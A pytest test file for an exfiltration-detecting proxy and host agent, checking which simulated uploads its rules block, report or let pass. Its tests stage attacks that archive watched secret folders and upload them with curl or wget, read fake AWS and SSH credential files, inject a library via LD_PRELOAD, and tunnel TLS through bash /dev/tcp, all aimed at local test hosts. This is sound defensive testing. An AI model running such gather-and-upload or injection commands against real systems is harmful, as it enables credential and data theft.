"""The analytics of policy/rules/attack with real processes, where actions.yaml has them block: what is blocked or cut in enforce, what would be in
report, and near misses that pass: programs that are meant to do what they did, destinations that are known, updaters at home, browsers."""
import glob
import hashlib
import os
import random
import shutil
import ssl
import subprocess

import pytest

import harness
from harness import Proxy, get_path, tool, wait_until
from test_findings import AT_ONCE, POLICY
from test_history import wait_for_mark

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root: the agent watches folders")

RULES = ["an0761", "an1415", "an0402", "an1498", "an0759_sends", "an0759_library"]
# How often a program runs depends on what else this host does: an0759 only alerts here, and near misses don't mind it.
RARELY = "0759a000-0000-4e78-8ea7-000000000001"
SENDERS = """version: 1
senders:
  - {kind: developer, packages: [curl], expects: [cloud_credentials]}  # as aws is
  - {kind: transfer_tool, packages: [wget], expects: [ssh_key]}        # as ssh is
  - {kind: updater, packages: [git], home: [home.test]}
  - kind: transfer_tool
    scripts: [%s]
    expects: [archive]
"""
# openssl stands for a browser with a person before it: the tests have no window
BROWSER = "browsers:\n  - {name: it, executables: [%s]}\n"
# A shell that speaks TLS: $1 the proxy's port, $2 where to, $3 a hello, $4 what it waits for, $5 a library to open
HELLO = """[ -n "$5" ] && enable -f "$5" it 2>/dev/null
exec 3<>/dev/tcp/127.0.0.1/$1
printf 'CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' $2 $2 >&3
while read -r line <&3 && [ "$line" != $'\\r' ]; do :; done
cat $3 >&3
$4 <&3 >/dev/null
"""
UPLOAD, CONNECTS = (f"1415a000-0000-4e78-8ea7-00000000000{i}" for i in (1, 2))
MIB = 1 << 20
SIZE = 600000


def npm():
    path = shutil.which("npm")
    return os.path.realpath(path) if path else "/nowhere/npm"


class Watched:
    """Folders that the agent watches, each with what is secret in it."""

    def __init__(self, folder):
        self.folder = folder
        for kind in ("plans", "aws", "ssh"):
            (folder / kind).mkdir()
            (folder / kind / "it").write_bytes(random.Random(kind).randbytes(SIZE) if kind == "plans" else b"# secret\n")
        self.upload = folder / "upload"
        self.upload.write_bytes(random.Random(1).randbytes(SIZE))
        self.options = [o for name, kind in (("plans", "plans"), ("cloud_credentials", "aws"), ("ssh_key", "ssh"))
                        for o in ("--watch", f"{name}={folder}/{kind}/**")]


@pytest.fixture(scope="module")
def watched(tmp_path_factory):
    folder = tmp_path_factory.mktemp("gather")
    harness.open_for_others(folder)
    return Watched(folder)


@pytest.fixture(scope="module")
def proxy(dns, ports, authority, watched):
    anywhere = [{"any": True}]
    senders = [{"name": "raw", "match": {"client_network": harness.RAW_CLIENT + "/32", "confidence": harness.ANYBODY}, "allow": anywhere},
               {"name": "report", "mode": "report", "match": {"executable": tool("wget")}, "allow": anywhere}]
    senders += [{"name": name, "match": {"executable": tool(name)}, "allow": anywhere} for name in ("curl", "openssl")]
    senders += [{"name": "npm", "match": {"executable": tool("node"), "script": npm()}, "allow": anywhere}] if shutil.which("node") else []
    (watched.folder / "hello.sh").write_text(HELLO)
    senders += [{"name": "shell", "match": {"executable": tool("bash"), "script_sha256": hashlib.sha256(HELLO.encode()).hexdigest()},
                 "allow": anywhere}]
    files = {"actions.yaml": "version: 1\nactions:\n  - {rule: [%s], action: block}\n" % ", ".join(RULES),
             "senders.yaml": SENDERS % npm(), "programs.yaml": (POLICY / "agent/programs.yaml").read_text().replace("browsers:\n", BROWSER % tool("openssl"))}
    for name, text in files.items():
        (watched.folder / name).write_text(text)
    config = {"policy": {"rules": [str(POLICY / "rules/attack")], "actions": str(watched.folder / "actions.yaml"),
                         "senders": str(watched.folder / "senders.yaml"), "handling": "peek", "chain": "wait"},
              "agent": {"hash_wait": "5s"}, "history": AT_ONCE, "tls_origin": {"ca_file": str(authority.ca)}}
    baseline = {"version": 1, "mode": "enforce", "unknown_sender": {"action": "block"}, "senders": senders}
    p = Proxy("attack", dns=dns, ports=ports, baseline=baseline, config=config,
              agent_options=[*watched.options, "--programs", str(watched.folder / "programs.yaml")])
    with p:
        agent = p.status()["workers"][0]["agent"]
        if any(s.startswith("history:") for s in agent.get("degraded", [])):
            pytest.skip("no history here")
        for kind in ("plans", "aws", "ssh"):
            wait_for_mark(p.agent.pid, watched.folder / kind)
        yield p


@pytest.fixture
def place(name):
    """A host below a registrable domain that no sender has been to."""
    return lambda: name("ok", "d" + name("x", "y").partition(".")[0] + ".test")


class Shell:
    """A shell script in a session of its own: the lineage is the script's."""

    def __init__(self, proxy, watched, authority, https):
        self.proxy, self.watched, self.ca, self.port = proxy, watched, authority.ca, https.port

    def run(self, text):
        script = self.watched.folder / "script.sh"
        script.write_text(text + "\ntrue\n")
        return subprocess.run(["/bin/sh", "-c", f"/bin/sh {script}; true"], start_new_session=True, capture_output=True, timeout=120,
                              env=self.proxy.environment(), stdin=subprocess.DEVNULL)

    def gather(self):
        return f"tar czf {self.watched.folder}/out.tgz -C {self.watched.folder}/plans ."

    def url(self, host):
        return f"https://{host}:{self.port}/upload"

    def curl(self, host, *more):
        return f"{tool('curl')} -sSk -o /dev/null -T {self.watched.upload} {' '.join(more)} {self.url(host)}"

    def wget(self, host, *more):
        return f"{tool('wget')} -q -t 1 -O /dev/null --no-check-certificate {' '.join(more)} {self.url(host)}"


@pytest.fixture(scope="module")
def shell(proxy, watched, authority, https):
    return Shell(proxy, watched, authority, https)


def matches(x):
    """The ids of the rules that were true of it, without an0759."""
    return {r["id"] for r in x.get("unmapped.rules") or []} - {RARELY}


def passed(proxy, host, size=0):
    x = proxy.exchange(host)
    assert x.verdict != "block" and not matches(x) and x.confidence == "exact" and x.get("traffic.bytes_out") > size, x
    return x


def stopped(proxy, host, rule):
    """Blocked before, or cut after, payload moved; or when the agent told more of the sender."""
    x = proxy.exchange(host)
    assert x.verdict == "block" and x.verdict_reason == "rule" and x.reason in ("rule", "sender_changed"), x
    assert rule in matches(x), x
    return x


# ---- AN1415: gathered, then sent ----

def test_gathered_and_sent(proxy, shell, place):
    """In enforce it is cut on its way; in report it would have been."""
    hosts = place(), place()
    shell.run(shell.gather() + "\n" + shell.curl(hosts[0]))
    shell.run(shell.gather() + "\n" + shell.wget(hosts[1], f"--post-file={shell.watched.upload}"))
    x = stopped(proxy, hosts[0], UPLOAD)
    assert x.get("unmapped.sender.access_expected") is False and x.get("unmapped.sender.kind") == "developer", x
    x = proxy.exchange(hosts[1])
    assert x.verdict != "block" and x.get("unmapped.verdict.would_block") is True and x.entry == "report", x


def test_less_than_half_of_the_archive(proxy, shell, watched, place):
    """300 KB of an archive of two MiB: risk, and no more."""
    host = place()
    (watched.folder / "large").write_bytes(random.Random(2).randbytes(2 * MIB))
    (watched.folder / "part").write_bytes(random.Random(3).randbytes(300000))
    shell.run(f"tar czf {watched.folder}/large.tgz -C {watched.folder} large\n" +
              shell.curl(host).replace(str(watched.upload), str(watched.folder / "part")))
    x = proxy.exchange(host)
    assert x.verdict == "alert" and matches(x) == {CONNECTS} and x.get("traffic.bytes_out") > 262144, x
    assert 0.1 < x.get("unmapped.upload_to_archive") < 0.5, x


def test_a_tool_reads_its_credentials_each_time(proxy, shell, watched, place):
    hosts = place(), place()
    shell.run(shell.curl(hosts[0], f"--netrc-file {watched.folder}/aws/it"))
    shell.run(shell.wget(hosts[1], f"--load-cookies={watched.folder}/ssh/it", f"--post-file={watched.upload}"))
    for host, kind in zip(hosts, ("cloud_credentials", "ssh_key")):
        x = passed(proxy, host, SIZE)
        assert x.get("unmapped.sender.access_expected") is True, x
        assert kind in {row.get("class") for row in x.get("unmapped.sender.history")["seen"]}, x


def test_one_tools_excuse_is_not_anothers(proxy, shell, watched, place):
    host = place()
    shell.run(shell.curl(host, f"--netrc-file {watched.folder}/ssh/it"))
    assert stopped(proxy, host, UPLOAD).get("unmapped.sender.access_expected") is False


def test_a_borrowed_name_has_no_excuse(proxy, shell, watched, place):
    """wget may read that key, but this is whoever preloaded a library into it: in report, so that it comes so far."""
    host, library = place(), sorted(glob.glob("/usr/lib/*/libz.so.1"))
    if not library:
        pytest.skip("no libz")
    shell.run(f"LD_PRELOAD={library[0]} " + shell.wget(host, f"--load-cookies={watched.folder}/ssh/it", f"--post-file={watched.upload}"))
    x = proxy.exchange(host)
    assert x.get("unmapped.sender.borrowed") == ["preload"] and x.get("unmapped.sender.kind") is None, x
    assert x.get("unmapped.sender.access_expected") is False and x.get("unmapped.verdict.would_block") is True, x
    assert UPLOAD in matches(x), x


def test_npm_packs_what_it_publishes(proxy, watched, https, place):
    if not shutil.which("npm"):
        pytest.skip("no npm")
    host, package = place(), watched.folder / "package"
    package.mkdir()
    (package / "package.json").write_text('{"name": "it", "version": "1.0.0"}')
    shutil.copy(watched.upload, package / "data")
    registry = f"https://{host}:{https.port}/"
    options = ["--registry", registry, "--https-proxy", proxy.url, "--strict-ssl=false", "--foreground-scripts", "--no-audit",
               "--no-update-notifier", "--fetch-retries=0", f"--//{host}:{https.port}/:_authToken=it"]
    (package / "publish.sh").write_text("npm pack --silent --offline\nnpm publish " + " ".join(options) + " it-1.0.0.tgz\ntrue\n")
    r = subprocess.run(["/bin/sh", "-c", "/bin/sh publish.sh; true"], cwd=package, start_new_session=True, capture_output=True, timeout=120,
                       env=proxy.environment(HOME=str(package)), stdin=subprocess.DEVNULL)
    found = wait_until(lambda: [x for x in proxy.ledger.find(lambda x: x.close and get_path(x.close, "dst_endpoint.hostname") == host)
                                if x.get("traffic.bytes_out") > SIZE], f"its upload: {r}")
    for x in found:
        assert x.verdict != "block" and not matches(x) and x.get("unmapped.sender.access_expected") is True, x
        assert "archive_written" in {row["kind"] for row in x.get("unmapped.sender.history")["seen"]}, x


def test_a_destination_that_is_known(proxy, shell, place):
    host = place()
    shell.run(shell.curl(host).replace(f"-T {shell.watched.upload}", ""))
    passed(proxy, host)
    shell.run(shell.gather() + "\n" + shell.curl(host))
    found = proxy.exchanges(host, 2)
    assert not any(x.verdict == "block" or matches(x) for x in found) and found[1].get("traffic.bytes_out") > SIZE, found


def test_a_browser_instead(proxy, shell, watched, place):
    host = place()
    request = watched.folder / "request"
    request.write_bytes(f"PUT /upload HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nContent-Length: {SIZE}\r\n\r\n".encode() +
                        watched.upload.read_bytes())
    shell.run(shell.gather() + f"\n{tool('openssl')} s_client -quiet -ign_eof -proxy 127.0.0.1:{proxy.port} -CAfile {shell.ca} "
              f"-servername {host} -connect {host}:{shell.port} <{request}")
    assert passed(proxy, host, SIZE).get("unmapped.sender.is_browser") is True


# ---- AN0761: who may go where ----

def test_an_updater_at_home_and_away(proxy, https, authority, name):
    """Neither is in the baseline, both are refused; a finding is made of the one that left home."""
    home, away = name("ok", "home.test"), name("ok", "nothome.test")
    for host in (home, away):
        proxy.run(tool("git"), "-c", f"http.sslCAInfo={authority.ca}", "-c", f"http.proxy={proxy.url}", "ls-remote", f"https://{host}:443/it")
    x, y = proxy.exchange(home), proxy.exchange(away)
    assert x.get("unmapped.sender.kind") == y.get("unmapped.sender.kind") == "updater", (x, y)
    assert (x.get("unmapped.sender.at_home"), y.get("unmapped.sender.at_home")) == (True, False)
    wait_until(lambda: proxy.ledger.read() or [f for f in proxy.ledger.findings if f["unmapped"]["finding"]["domain"] == "nothome.test"],
               "a finding about the second")
    assert not [f for f in proxy.ledger.findings if f["unmapped"]["finding"]["domain"] == "home.test"]


# ---- AN0402: what is no TLS ----

def test_random_bytes_are_cut(proxy, echo, place):
    host = place()
    s, head = proxy.connect(host, echo.port)
    assert " 200 " in head
    data = bytes([b | 0x80 for b in random.Random(4).randbytes(8)]) + random.Random(5).randbytes(8192)
    s.sendall(data)
    harness.read_all(s)
    s.close()
    stopped(proxy, host, "0402a000-0000-4e78-8ea7-000000000001")


def test_gzip_of_a_declared_type(proxy, http, watched, place):
    """The same bytes to the eye, but HTTP says what they are."""
    host = place()
    archive = watched.folder / "release.gz"
    archive.write_bytes(b"\x1f\x8b\x08\0\0\0\0\0\0\3" + random.Random(6).randbytes(SIZE))
    proxy.curl("-H", "Content-Type: application/gzip", "-T", archive, f"http://{host}:{http.port}/upload", start_new_session=True)
    passed(proxy, host, SIZE)


# ---- AN1498: whose certificate ----

def test_a_new_issuer_and_the_enterprises_own(proxy, self_signed, https, authority, place, name):
    hosts = place(), name()
    proxy.curl("-k", f"https://{hosts[0]}:{self_signed.port}/hello", start_new_session=True)
    proxy.curl("--cacert", authority.ca, f"https://{hosts[1]}:{https.port}/hello", start_new_session=True)
    stopped(proxy, hosts[0], "1498a000-0000-4e78-8ea7-000000000001")
    assert passed(proxy, hosts[1]).get("unmapped.chain.trusted") is True


# ---- AN0759: what does not use to connect ----

def tunnel_upload(proxy, host, port, size):
    """An upload by this process, plain in a tunnel: whether it was answered."""
    s, head = proxy.connect(host, port)
    assert " 200 " in head
    try:
        s.sendall(f"PUT /upload HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nContent-Length: {size}\r\n\r\n".encode() + b"a" * size)
    except OSError:
        pass
    answer = harness.read_all(s)
    s.close()
    return answer.startswith(b"HTTP/1.1 200")


def test_sends_as_it_never_did(proxy, http, echo, place):
    """Twenty small ones are its habit; then a MiB and more. What comes back as it went is no upload."""
    host, balanced = place(), place()
    for _ in range(20):
        assert tunnel_upload(proxy, host, http.port, 10)
    wait_until(lambda: len(proxy.ledger.find(lambda x: x.close and x.get("dst_endpoint.hostname") == host)) == 20, "their ends")
    assert not tunnel_upload(proxy, host, http.port, 3 * MIB // 2)
    found = proxy.exchanges(host, 21)
    assert sum(x.verdict == "block" for x in found) == 1, found
    assert matches(next(x for x in found if x.verdict == "block")) == {"0759a000-0000-4e78-8ea7-000000000002"}, found
    s, _ = proxy.connect(balanced, echo.port)
    for _ in range(24):
        s.sendall(b"a" * 65536)
        left = 65536
        while left:
            left -= len(s.recv(left))
    s.close()
    passed(proxy, balanced)


def test_a_program_that_hardly_ever_connects(proxy, shell, place):
    host = place()
    shell.run(f"i=0; while [ $i -lt 320 ]; do {tool('openssl')} version >/dev/null; i=$((i+1)); done\n"
              f"echo | {tool('openssl')} s_client -quiet -proxy 127.0.0.1:{proxy.port} -CAfile {shell.ca} -servername {host} "
              f"-connect {host}:{shell.port}")
    x = proxy.exchange(host)
    assert RARELY in {r["id"] for r in x.get("unmapped.rules")} and x.verdict == "alert", x
    usage = x.get("unmapped.sender.history")["usage"]
    assert usage["executions"]["count"] >= 200 and usage["connected_executions"] <= 3, x


def test_a_tls_library_that_its_package_does_not_link(proxy, watched, https, place):
    """bash opens libssl and speaks TLS: known at the hello, or told by the agent while the tunnel is open. Without it, it passes."""
    if subprocess.run(["dpkg", "-S", "/bin/bash"], capture_output=True).returncode != 0:
        pytest.skip("no dpkg here")
    library, hosts = sorted(glob.glob("/usr/lib/*/libssl.so.3")), (place(), place())
    for host, wait, opened in zip(hosts, ("cat", "head -c 1"), (library[0], "")):
        out = ssl.MemoryBIO()
        with pytest.raises(ssl.SSLWantReadError):
            ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), out, server_hostname=host).do_handshake()
        (watched.folder / "hello.bin").write_bytes(out.read())
        proxy.run(tool("bash"), watched.folder / "hello.sh", proxy.port, f"{host}:{https.port}", watched.folder / "hello.bin", wait, opened,
                  start_new_session=True)
    x, y = stopped(proxy, hosts[0], "0759a000-0000-4e78-8ea7-000000000004"), passed(proxy, hosts[1])
    rows = {row["kind"]: row for row in x.get("unmapped.sender.history")["seen"]}
    assert rows["tls_library_unexpected"]["path"] == os.path.realpath(library[0]), x
    assert not {"tls_library", "tls_library_unexpected"} & {row["kind"] for row in y.get("unmapped.sender.history")["seen"]}, y
